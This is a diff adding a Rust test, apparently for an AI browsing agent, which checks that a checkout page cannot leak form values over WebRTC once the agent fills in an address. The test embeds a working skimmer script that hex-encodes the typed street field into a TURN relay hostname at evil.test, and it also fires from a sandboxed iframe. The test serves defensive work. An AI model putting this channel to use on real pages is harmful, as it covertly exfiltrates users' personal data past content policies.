@@ -1,0 +1,68 @@
+//! WebRTC, by which a value leaves as a name that is looked up and as datagrams: no rule and no policy of a document's content
+//! sees it.
+
+use std::net::TcpListener;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use crate::stage::{FORM, PATIENCE, REQUEST, Stage};
+use crate::way_out::wait_for;
+
+/// Connects to a relay whose name holds what is typed: from the page and from a frame without an origin.
+const CALLS: &str = r#"<script>
+  const inner = (name) => `<script>(${call})('${name}')<\/script>`;
+  function call(name) {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${name}.evil.test:RELAY?transport=tcp`, username: 'a', credential: 'b' }] });
+    peer.createDataChannel('x');
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {});
+  }
+  const callAll = () => {
+    const name = [...new TextEncoder().encode(document.forms[0].elements.street.value)].map((n) => n.toString(16)).join('').slice(0, 60) || 'none';
+    try { call(name); } catch {}
+    const el = document.createElement('iframe');
+    el.sandbox = 'allow-scripts';
+    el.srcdoc = inner('framed' + name.slice(0, 40));
+    document.body.append(el);
+    document.body.dataset.called = '';
+  };
+  addEventListener('input', () => setTimeout(callAll, 50));
+  </script>"#;
+
+#[test]
+fn a_page_that_was_given_values_calls_nobody_by_webrtc() {
+    let relay = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = relay.local_addr().unwrap().port();
+    let called = Arc::new(AtomicUsize::new(0));
+    let counting = Arc::clone(&called);
+    thread::spawn(move || {
+        for _connection in relay.incoming() {
+            counting.fetch_add(1, Ordering::SeqCst);
+        }
+    });
+    let mut stage = Stage::new(44);
+    stage.site.put("shop.test/checkout", &format!("{FORM}{}", CALLS.replace("RELAY", &port.to_string())));
+    stage.serve(true);
+    stage.browse();
+    let url = stage.site.url("shop.test/checkout");
+    stage.browser().open(&url);
+    stage.browser().evaluate("callAll()");
+    let began = Instant::now();
+    while called.load(Ordering::SeqCst) < 2 {
+        assert!(began.elapsed() < PATIENCE, "without a task it calls: {}", called.load(Ordering::SeqCst));
+        thread::sleep(Duration::from_millis(50));
+    }
+
+    stage.task();
+    stage.agent_until(None, "Deliver to");
+    thread::sleep(Duration::from_secs(2));
+    let before = called.load(Ordering::SeqCst);
+    let reply = stage.agent(Some(REQUEST));
+    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
+    wait_for(&mut stage, "'called' in document.body.dataset");
+    // As long as a first try, its repetitions and the next server's may take.
+    thread::sleep(Duration::from_secs(8));
+    assert_eq!(called.load(Ordering::SeqCst), before, "after the fill it calls nobody");
+    stage.no_value_got_out();
+}
